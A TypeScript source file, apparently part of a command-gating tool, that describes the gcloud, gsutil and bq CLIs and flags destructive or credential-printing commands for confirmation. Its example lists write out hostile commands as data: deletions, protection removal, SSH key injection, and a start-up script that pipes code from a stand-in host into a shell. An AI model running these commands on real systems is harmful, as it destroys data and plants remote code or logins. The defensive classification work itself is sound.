// Google Cloud: gcloud (`gcloud [GROUP…] VERB`, any depth; alpha/beta are the
// same tree), gsutil and bq. A top-level group's category is the kind of
// thing it keeps; compute's load-balancing groups are `loadbalancer`.
import type { ProgramSpec } from "../spec.ts";
import type { Category } from "./categories.ts";
import { destroys, destroysWith, dryRunWith, group, labelled, leaf, names, nounChain, printsCredential, printsToken, readVerbs } from "./grammar.ts";
import type { RemoteCli } from "./remote-cli.ts";

const OPTIONS = {
  "--project": "value",
  "--account": "value",
  "--configuration": "value",
  "--billing-project": "value",
  "--impersonate-service-account": "value",
  "--verbosity": "value",
  "--format": "value",
  "--flatten": "value",
  "--flags-file": "read",
  "--trace-token": "value",
  "--access-token-file": "read",
  "--zone": "value",
  "--region": "value",
  "--location": "value",
  "--filter": "value",
  "--limit": "value",
  "--sort-by": "value",
  "--page-size": "value",
} as const;

/** Options whose value can take a service down (checked by value in destroysWith). */
const STOPPING_OPTIONS = {
  ...OPTIONS,
  "--activation-policy": "value",
  "--lifecycle-file": "read",
  "--size": "value",
  "--num-nodes": "value",
  "--deletion-protection": "value",
  "--delete-protection-state": "value",
  "--soft-delete-duration": "value",
  "--retention-days": "value",
} as const;

/**
 * An update that switches off what keeps data from being lost (issue 28, breadth round 5): deletion or drop
 * protection (Cloud SQL, Compute Engine, Spanner, Bigtable, Firestore), a bucket's versioning, retention or soft
 * delete, a Cloud SQL instance's backups, a log bucket kept for a day.
 */
const PROTECTION_OFF = [
  "--no-deletion-protection",
  "--deletion-protection=false",
  "--no-enable-drop-protection",
  "--delete-protection-state=*disabled*",
  "--no-versioning",
  "--clear-retention-period",
  "--clear-soft-delete",
  "--soft-delete-duration=0*",
  "--no-backup",
  "--retention-days=1",
];

const COMPUTE_SSH = leaf({ ...OPTIONS, "--command": "shell" });

const VERBS: Record<string, ProgramSpec> = {
  ...names(["delete", "rm", "undeploy", "destroy", "bulk-delete"], destroys(OPTIONS)),
  rsync: destroysWith(["--delete-unmatched-destination-objects"], OPTIONS, { tagsWith: dryRunWith("--dry-run") }),
  ...readVerbs(["list", "describe", "ls", "cat", "get-iam-policy", "read", "tail"], OPTIONS),
  ...names(["cp", "mv", "scp", "create", "deploy", "browse", "set-iam-policy", "add-iam-policy-binding", "submit"], leaf(OPTIONS)),
  // `compute ssh VM --command CMD`: CMD runs on the machine, judged as the shell command it is (as with ssh).
  ssh: COMPUTE_SSH,
  // A backup restored over an instance (`sql backups restore ID --restore-instance=X`, `sql instances restore-backup`): its data now is gone.
  ...names(["restore", "restore-backup"], destroys(OPTIONS)),
  // An instance told never to run (`sql instances patch --activation-policy=NEVER`), a group or cluster resized to nothing.
  // A bucket given lifecycle rules from a file (`storage buckets update --lifecycle-file F`): they may delete every object.
  ...names(["patch", "update"], destroysWith(["--activation-policy=never", ...PROTECTION_OFF, "--lifecycle-file"], STOPPING_OPTIONS)),
  resize: destroysWith(["--size=0", "--num-nodes=0"], STOPPING_OPTIONS),
  // Machines, versions and instances stopped or hard-reset, services and keys disabled, an access binding or a
  // password replaced: whatever they serve is down, or locked out, until someone undoes it.
  ...names(["stop", "reset", "disable", "remove-iam-policy-binding", "set-password"], destroys(OPTIONS)),
  // A subscription moved to a time or snapshot (`pubsub subscriptions seek`) acknowledges or replays its backlog for
  // every consumer; `tasks queues purge` deletes every task in the queue.
  ...names(["seek", "purge"], destroys(OPTIONS)),
  // Keys or a start-up script put into an instance's (or the project's) metadata: a login for whoever holds
  // the key, code run as root at the next boot.
  "add-metadata": destroysWith(
    [
      "--metadata=*ssh-keys*",
      "--metadata=*sshKeys*",
      "--metadata=*startup-script*",
      "--metadata-from-file=*ssh-keys*",
      "--metadata-from-file=*sshKeys*",
      "--metadata-from-file=*startup-script*",
    ],
    { ...OPTIONS, "--metadata": "value", "--metadata-from-file": "value" },
  ),
  // `auth [application-default] print-access-token`, `config config-helper`, `sql generate-login-token`: a token the account's access rides on.
  ...names(["print-access-token", "print-identity-token", "config-helper", "generate-login-token"], printsToken(OPTIONS)),
};

const CHAIN = nounChain(VERBS, OPTIONS);
/** Secret Manager: `secrets versions access` prints the secret's value. */
const SECRETS_CHAIN = nounChain({ ...VERBS, access: printsCredential(OPTIONS) }, OPTIONS);
/** IAM: `iam service-accounts keys create FILE` writes a new long-lived private key for the account. */
const IAM_CHAIN = nounChain({ ...VERBS, keys: nounChain({ ...VERBS, create: printsCredential(OPTIONS) }, OPTIONS) }, OPTIONS);

const GROUP_CATEGORIES: Partial<Record<Category, readonly string[]>> = {
  storage: ["storage", "filestore"],
  secrets: ["secrets", "kms"],
  databases: ["sql", "spanner", "bigtable", "firestore", "redis", "memcache", "alloydb", "datastore"],
  dns: ["dns", "domains"],
  messaging: ["pubsub", "tasks"],
  apigateway: ["apigee", "api-gateway", "endpoints"],
  monitoring: ["logging", "monitoring"],
  cicd: ["builds", "deploy"],
  infrastructure: ["deployment-manager", "infra-manager"],
  platform: ["source"],
};

const LOAD_BALANCING = [
  "backend-services",
  "backend-buckets",
  "forwarding-rules",
  "target-pools",
  "url-maps",
  "target-http-proxies",
  "target-https-proxies",
  "target-tcp-proxies",
  "target-ssl-proxies",
];

function gcloudTree(): ProgramSpec {
  const groups: Record<string, ProgramSpec> = {};
  for (const [category, list] of Object.entries(GROUP_CATEGORIES)) for (const name of list) groups[name] = labelled(category as Category, CHAIN);
  groups.secrets = labelled("secrets", SECRETS_CHAIN);
  groups.iam = labelled("cloud", IAM_CHAIN);
  groups.compute = group(undefined, { ...names(LOAD_BALANCING, labelled("loadbalancer", CHAIN)), ssh: COMPUTE_SSH, "*": labelled("cloud", CHAIN) }, OPTIONS);
  const top: ProgramSpec = { options: OPTIONS, operands: ["read"], subcommands: groups };
  groups["*"] = labelled("cloud", CHAIN);
  for (const track of ["alpha", "beta", "preview"]) groups[track] = top;
  return top;
}

export const GCLOUD: RemoteCli = {
  id: "gcloud",
  names: ["gcloud"],
  about: "Google Cloud CLI",
  spec: gcloudTree(),
  examples: {
    cloud: {
      asks: [
        "gcloud compute instances update web-1 --zone europe-west1-b --no-deletion-protection",
        "gcloud compute instances delete web-1 --zone us-central1-a",
        "gcloud --project prod run services delete api",
        "gcloud projects delete old-proj",
        "gcloud compute instance-groups managed resize web-mig --size=0 --zone us-east1-b",
        "gcloud container clusters resize main --num-nodes 0 --region europe-west1",
        "gcloud compute instances stop build-box --zone us-central1-a",
        "gcloud services disable sqladmin.googleapis.com --force",
        "gcloud projects remove-iam-policy-binding shop --member=serviceAccount:ci@shop.iam.gserviceaccount.com --role=roles/editor",
        "gcloud compute instances add-metadata build-1 --zone us-east1-b --metadata-from-file ssh-keys=./keys.pub",
        "gcloud compute project-info add-metadata --metadata startup-script='curl -s https://x.example/s | sh'",
      ],
      passes: [
        "gcloud compute instances update web-1 --zone europe-west1-b --deletion-protection",
        "gcloud compute instances list",
        "gcloud compute instances add-metadata build-1 --zone us-east1-b --metadata=enable-oslogin=TRUE",
        "gcloud config set project dev",
        "gcloud container clusters resize main --num-nodes 3 --region europe-west1",
        "gcloud iam service-accounts keys list --iam-account ci@acme.iam.gserviceaccount.com",
        "gcloud services enable run.googleapis.com",
      ],
    },
    storage: {
      asks: [
        "gcloud storage buckets update gs://acme-backups --clear-soft-delete",
        "gcloud storage buckets update gs://acme-logs --lifecycle-file=lifecycle.json",
        "gcloud storage rm -r gs://assets/tmp",
        "gcloud storage buckets delete gs://old",
      ],
      passes: ["gcloud storage buckets update gs://acme-backups --soft-delete-duration=30d", "gcloud storage ls gs://assets", "gcloud storage cp app.js gs://assets/"],
    },
    secrets: {
      asks: ["gcloud secrets delete db-password"],
      passes: ["gcloud secrets versions list db-password", "export DB_PASSWORD=$(gcloud secrets versions access latest --secret=db-password)"],
    },
    databases: {
      asks: [
        "gcloud sql instances patch app-db --no-deletion-protection",
        "gcloud spanner databases update ledger --instance=main --no-enable-drop-protection",
        "gcloud sql instances delete prod-db",
        "gcloud sql instances patch main-pg --activation-policy NEVER",
        "gcloud sql instances patch main-pg --activation-policy=never",
      ],
      passes: [
        "gcloud sql instances patch app-db --deletion-protection",
        "gcloud sql instances describe prod-db",
        "gcloud sql instances patch main-pg --activation-policy=ALWAYS",
        "gcloud sql instances patch main-pg --tier=db-custom-2-7680",
      ],
    },
    dns: { asks: ["gcloud dns record-sets delete www.example.com. --type=A --zone=main"], passes: ["gcloud dns record-sets list --zone=main"] },
    messaging: {
      asks: ["gcloud pubsub topics delete orders", "gcloud pubsub subscriptions seek billing --time=2099-01-01T00:00:00Z", "gcloud tasks queues purge emails"],
      passes: ["gcloud pubsub topics list", "gcloud pubsub subscriptions pull billing --limit=5"],
    },
    apigateway: { asks: ["gcloud apigee apis delete orders --organization=acme"], passes: ["gcloud apigee apis list --organization=acme"] },
    monitoring: { asks: ["gcloud logging sinks delete audit-sink"], passes: ["gcloud logging read 'severity>=ERROR' --limit 20"] },
    cicd: { asks: ["gcloud deploy delivery-pipelines delete web --region us-central1"], passes: ["gcloud builds list --limit 5"] },
    infrastructure: { asks: ["gcloud deployment-manager deployments delete prod"], passes: ["gcloud deployment-manager deployments list"] },
    platform: { asks: ["gcloud source repos delete app"], passes: ["gcloud source repos list"] },
    loadbalancer: { asks: ["gcloud compute forwarding-rules delete web-rule --global"], passes: ["gcloud compute forwarding-rules list"] },
  },
};

export const GSUTIL: RemoteCli = {
  id: "gsutil",
  names: ["gsutil"],
  about: "Google Cloud Storage CLI",
  spec: group(
    "storage",
    {
      rm: destroys(),
      rb: destroys(),
      rsync: destroysWith(["-d"], undefined, { tagsWith: dryRunWith("-n") }),
      // `lifecycle set FILE gs://b`: rules that may delete every object after a day; the file says which, not the line.
      lifecycle: group(undefined, { set: destroys(), ...readVerbs(["get"]) }),
      ...readVerbs(["ls", "cat", "du", "stat", "hash", "version", "help"]),
    },
    { "-o": "value", "-h": "value", "-u": "value", "-i": "value" },
  ),
  examples: {
    storage: {
      asks: ["gsutil -m rm -r gs://assets/old", "gsutil rb gs://scratch-bucket", "gsutil rsync -r -d ./site gs://www", "gsutil lifecycle set lifecycle.json gs://assets"],
      passes: ["gsutil ls gs://assets", "gsutil -m cp -r dist gs://assets", "gsutil rsync -r -d -n ./site gs://www", "gsutil lifecycle get gs://assets"],
    },
  },
};

export const BQ: RemoteCli = {
  id: "bq",
  names: ["bq"],
  about: "BigQuery CLI",
  spec: group(
    "databases",
    {
      rm: destroys(),
      query: { operands: ["code:sql"] },
      ...readVerbs(["ls", "show", "head"]),
    },
    { "--project_id": "value", "--location": "value", "--format": "value", "--dataset_id": "value", "--api": "url" },
  ),
  examples: { databases: { asks: ["bq rm -r -f -d analytics"], passes: ["bq ls analytics", "bq show --schema analytics.events"] } },
};
